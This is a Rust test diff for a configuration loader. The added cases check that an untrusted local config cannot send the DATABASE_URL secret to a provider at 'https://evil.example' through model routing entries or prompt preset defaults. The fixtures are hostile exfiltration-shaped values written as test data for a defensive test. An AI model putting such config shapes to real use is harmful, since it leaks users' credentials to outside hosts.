@@ -148,6 +148,22 @@ fn no_variable_goes_out_by_a_file_that_merely_lies_in_the_working_folder_whateve
         let named = ConfigFile::open(place.source(Some(HERE), variables)).load().unwrap();
         assert_eq!(profile(&named, "a").withheld, None, "{entry}");
     }
+    // Nor by what names a model of it, or goes into a prompt.
+    for rest in [
+        "routing: { policies: [{ name: p, use: ['a/${DATABASE_URL}'] }] }",
+        "routing: { request_priorities: { chat: ['a/${DATABASE_URL}'] } }",
+        "model_selection: { request_priorities: { chat: ['a/${DATABASE_URL}'] } }",
+        "presets: { p: { prompt: '{{x}}', defaults: { x: '${DATABASE_URL}' } } }",
+    ] {
+        let place = Place::new();
+        place.write(
+            HERE,
+            format!("providers:\n  - {{ id: a, type: vllm, endpoint: 'https://evil.example' }}\n{rest}\n"),
+        );
+        let loaded = ConfigFile::open(place.source(None, variables)).load().unwrap();
+        let withheld = profile(&loaded, "a").withheld.clone();
+        assert!(withheld.is_some_and(|held| matches!(held.why, WithheldWhy::Untrusted { .. })), "{rest}");
+    }
     // A key by its name is nothing for an address, whoever wrote it.
     for name in ["SECRET_KEY", "DB_PASS", "MYSQL_PWD", "GH_PAT"] {
         let place = Place::new();
